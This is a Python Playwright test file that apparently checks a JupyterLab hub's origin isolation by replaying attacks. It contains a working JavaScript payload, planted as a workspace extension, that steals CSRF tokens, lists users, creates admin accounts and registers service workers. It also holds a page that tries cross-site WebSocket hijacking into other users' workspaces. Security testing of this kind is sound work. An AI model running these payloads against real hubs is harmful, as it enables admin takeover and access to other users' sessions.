"""The attacks that found workspaces sharing the hub's origin, replayed in Chromium.

The attacker is alice, an ordinary lab member. She controls everything in her workspace:
here, a JupyterLab extension in ~/.local/share/jupyter/labextensions whose script runs in the
browser of whoever opens her workspace. Before this change the script ran on the hub's origin
with an admin's session: it read /hub/api/users, took a CSRF token from /hub/token, created an
admin, registered a service worker for the whole site, and opened WebSockets into other
users' workspaces. Now, without apps_domain the admin is refused her workspace (its pages
would run on the hub's origin), and with apps_domain they run on the workspace's own origin,
where none of it works. A page on another port of the same host (or a sibling subdomain) that
opens WebSockets into a victim's workspace is refused too, for admins and ordinary users.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import AsyncIterator

import httpx
import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import BrowserContext, Page, async_playwright

from labspace.testing import Stack
from tests.conftest import APPS_DOMAIN, Person, ensure_running, make_user, user_names
from tests.web.chromium import launch

pytestmark = [pytest.mark.browser, pytest.mark.docker]

EXTENSION = "labspace-attack"
# What alice's extension does in the visitor's browser; it reports on the console.
ATTACK_JS = """
(async () => {
  const report = (what, how) => console.log("ATTACK " + what + " " + how);
  const hub = %(hub)s;
  report("origin", location.origin);
  let csrf = "";
  try {
    const users = await fetch(hub + "/hub/api/users", {credentials: "include"});
    report("users", users.status);
    const page = await (await fetch(hub + "/hub/token", {credentials: "include"})).text();
    const found = page.match(/name="_csrf" value="([^"]+)"/);
    csrf = found ? found[1] : "";
    report("csrf", csrf ? "stolen" : "none");
  } catch (e) { report("read", "blocked"); }
  try {
    const body = new URLSearchParams({name: "mallory", admin: "true", _csrf: csrf});
    await fetch(hub + "/hub/admin/users", {method: "POST", credentials: "include", body,
                                           mode: "no-cors"});
    report("admin-form", "sent");
  } catch (e) { report("admin-form", "blocked"); }
  try {
    const made = await fetch(hub + "/hub/api/users", {method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json", "X-CSRF-Token": csrf},
      body: JSON.stringify({name: "mallory-api", admin: true})});
    report("admin-api", made.status);
  } catch (e) { report("admin-api", "blocked"); }
  try {
    await navigator.serviceWorker.register(%(sw)s, {scope: "/"});
    report("sw", "registered");
  } catch (e) { report("sw", "refused"); }
  for (const target of %(sockets)s) {
    await new Promise(done => {
      const ws = new WebSocket(target);
      ws.onopen = () => { report("ws", "open " + target); ws.close(); done(); };
      ws.onerror = () => { report("ws", "refused " + target); done(); };
    });
  }
  report("done", "1");
})();
"""


def plant_extension(stack: Stack, owner: str, script: str) -> None:
    """What alice does in her own terminal (as herself): drop a prebuilt extension into her
    Jupyter data directory, and a service worker script into her home."""
    home = stack.data_dir / "homes" / owner
    extension = home / ".local/share/jupyter/labextensions" / EXTENSION
    (extension / "static").mkdir(parents=True, exist_ok=True)
    (extension / "package.json").write_text(json.dumps({
        "name": EXTENSION, "version": "0.1.0",
        "jupyterlab": {"_build": {"load": "static/remoteEntry.js", "extension": "./extension"}},
    }))
    (extension / "static" / "remoteEntry.js").write_text(script)
    (home / "sw.js").write_text("self.addEventListener('fetch', () => {});\n")
    owner_uid = home.stat().st_uid
    for path in [home / ".local", *(home / ".local").rglob("*"), home / "sw.js"]:
        os.chown(path, owner_uid, owner_uid)


async def log_in(context: BrowserContext, hub: str, person: Person) -> Page:
    page = await context.new_page()
    await page.goto(f"{hub}/hub/login")
    await page.fill("input[name=username]", person.name)
    await page.fill("input[name=password]", person.password)
    await page.click("button:has-text('Log in')")
    await page.wait_for_url(f"{hub}/hub/")
    return page


def attack_log(page: Page) -> list[str]:
    lines: list[str] = []
    page.on("console", lambda msg: lines.append(msg.text) if msg.text.startswith("ATTACK ")
            else None)
    return lines


async def assert_attack_got_nothing(page: Page, log: list[str], origin: str) -> None:
    """Wait for ATTACK_JS to finish on ``page`` (10 s at most): it ran on ``origin``, read no
    user list, stole no CSRF token and opened no WebSocket."""
    for _ in range(100):
        if "ATTACK done 1" in log:
            break
        await page.wait_for_timeout(100)
    assert f"ATTACK origin {origin}" in log, log
    assert "ATTACK done 1" in log, log
    assert "ATTACK csrf stolen" not in log and "ATTACK users 200" not in log, log
    assert not any(line.startswith("ATTACK ws open") for line in log), log


@pytest_asyncio.fixture(loop_scope="session")
async def context() -> AsyncIterator[BrowserContext]:
    async with async_playwright() as playwright:
        browser = await launch(playwright)
        try:
            yield await browser.new_context(viewport={"width": 1280, "height": 800})
        finally:
            await browser.close()


async def test_with_apps_domain_alices_extension_gets_nothing_from_an_admin(
        apps_stack: Stack, context: BrowserContext) -> None:
    port = apps_stack.public_port
    hub = f"http://lab.localhost:{port}"
    alice, bob = make_user(apps_stack, "alice"), make_user(apps_stack, "bob")
    admin = Person("admin", apps_stack.admin_password, apps_stack.admin_token, apps_stack)
    ensure_running(bob, "notes")
    alice_host = f"http://attack--alice.{APPS_DOMAIN}:{port}"
    sockets = [f"ws://lab.localhost:{port}/user/bob/notes/api/events/subscribe",
               f"ws://notes--bob.{APPS_DOMAIN}:{port}/user/bob/notes/api/events/subscribe"]
    ensure_running(alice, "attack")
    plant_extension(apps_stack, "alice", ATTACK_JS % {
        "hub": json.dumps(hub), "sw": json.dumps("/user/alice/attack/files/sw.js"),
        "sockets": json.dumps(sockets)})
    before = user_names(apps_stack)

    page = await log_in(context, hub, admin)
    log = attack_log(page)
    await page.goto(f"{hub}/user/alice/attack/lab")
    # The admin lands in alice's JupyterLab, on the workspace's own origin...
    await page.wait_for_url(re.compile(re.escape(alice_host) + "/user/alice/attack/lab"))
    await page.wait_for_selector("#jp-main-dock-panel", timeout=60_000)
    # ... where alice's script did run, and got nothing.
    await assert_attack_got_nothing(page, log, alice_host)
    assert "ATTACK sw refused" in log, log
    assert user_names(apps_stack) == before  # no admin was made, by form or API
    # The hub's origin has no service worker, and the hub's cookie never left its host.
    hub_page = await context.new_page()
    await hub_page.goto(f"{hub}/hub/")
    assert await hub_page.evaluate(
        "navigator.serviceWorker.getRegistrations().then(r => r.length)") == 0
    cookies = {c["name"]: c for c in await context.cookies()}
    session = cookies["__Host-labspace-session"]
    assert session["domain"] == "lab.localhost" and session["httpOnly"] and session["secure"]
    app_cookie = cookies["__Host-labspace-app"]
    assert app_cookie["domain"] == f"attack--alice.{APPS_DOMAIN}" and app_cookie["httpOnly"]
    # An admin token made by the script would have appeared here.
    with httpx.Client(base_url=apps_stack.url,
                      headers={"Authorization": f"Bearer {admin.token}"}) as api:
        tokens = api.get("/hub/api/tokens").json()
    assert [t for t in tokens if t["kind"] == "api"] == [t for t in tokens
                                                         if t["note"] == "labspace CLI"]


async def test_without_apps_domain_an_admin_is_refused_alices_workspace(
        stack: Stack, people: dict[str, Person], context: BrowserContext) -> None:
    alice = people["alice"]
    ensure_running(alice, "attack")
    plant_extension(stack, "alice", ATTACK_JS % {
        "hub": json.dumps(stack.url), "sw": json.dumps("/user/alice/attack/files/sw.js"),
        "sockets": json.dumps([])})
    before = user_names(stack)
    page = await log_in(context, stack.url, people["admin"])
    log = attack_log(page)
    response = await page.goto(f"{stack.url}/user/alice/attack/lab")
    assert response is not None and response.status == 403
    assert "only their owner" in await page.content()
    await page.wait_for_timeout(1000)
    assert log == [] and user_names(stack) == before


EVIL_PAGE = """<!doctype html><script>
const report = (how) => console.log("ATTACK " + how);
for (const target of %s) {
  const ws = new WebSocket(target);
  ws.onopen = () => { report("open " + target); ws.close(); };
  ws.onerror = () => report("refused " + target);
}
</script>"""


async def serve_evil(sockets: list[str]) -> tuple[web.AppRunner, int]:
    async def page(_: web.Request) -> web.Response:
        return web.Response(text=EVIL_PAGE % json.dumps(sockets), content_type="text/html")

    app = web.Application()
    app.router.add_get("/", page)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    return runner, runner.addresses[0][1]


async def _cross_site_websockets(context: BrowserContext, hub: str, evil_host: str,
                                 victim: Person, sockets: list[str], own_page: str) -> None:
    page = await log_in(context, hub, victim)
    await page.goto(own_page)  # the victim works in her workspace: she has its cookies
    await page.wait_for_selector("#jp-main-dock-panel", timeout=60_000)
    # The same WebSocket from the workspace's own page works: the test is not vacuous.
    opened = await page.evaluate("""target => new Promise(done => {
        const ws = new WebSocket(target); ws.onopen = () => { ws.close(); done(true); };
        ws.onerror = () => done(false); })""", sockets[-1])
    assert opened is True
    runner, port = await serve_evil(sockets)
    try:
        evil = await context.new_page()
        log = attack_log(evil)
        await evil.goto(f"http://{evil_host}:{port}/")
        for _ in range(100):
            if len(log) == len(sockets):
                break
            await evil.wait_for_timeout(100)
        assert sorted(log) == sorted(f"ATTACK refused {target}" for target in sockets), log
    finally:
        await runner.cleanup()


@pytest.mark.parametrize("victim", ["admin", "bob"])
async def test_a_page_on_another_port_cannot_open_websockets_into_workspaces(
        stack: Stack, people: dict[str, Person], context: BrowserContext, victim: str) -> None:
    person = people[victim]
    ensure_running(person, "victim")
    path = f"/user/{victim}/victim/api/events/subscribe"
    targets = [f"ws://127.0.0.1:{stack.public_port}{path}"]
    if victim == "admin":  # an admin's session would reach other users' workspaces too
        ensure_running(people["alice"], "attack")
        targets.insert(0, f"ws://127.0.0.1:{stack.public_port}/user/alice/attack/api/events/"
                          "subscribe")
    await _cross_site_websockets(context, stack.url, "127.0.0.1", person, targets,
                                 f"{stack.url}/user/{victim}/victim/lab")


@pytest.mark.parametrize("victim", ["admin", "bob"])
async def test_a_sibling_host_cannot_open_websockets_into_workspaces(
        apps_stack: Stack, context: BrowserContext, victim: str) -> None:
    port = apps_stack.public_port
    hub = f"http://lab.localhost:{port}"
    person = (Person("admin", apps_stack.admin_password, apps_stack.admin_token, apps_stack)
              if victim == "admin" else make_user(apps_stack, victim))
    ensure_running(person, "victim")
    path = f"/user/{victim}/victim/api/events/subscribe"
    targets = [f"ws://lab.localhost:{port}{path}",
               f"ws://victim--{victim}.{APPS_DOMAIN}:{port}{path}"]
    await _cross_site_websockets(context, hub, f"evil.{APPS_DOMAIN}", person, targets,
                                 f"{hub}/user/{victim}/victim/lab")
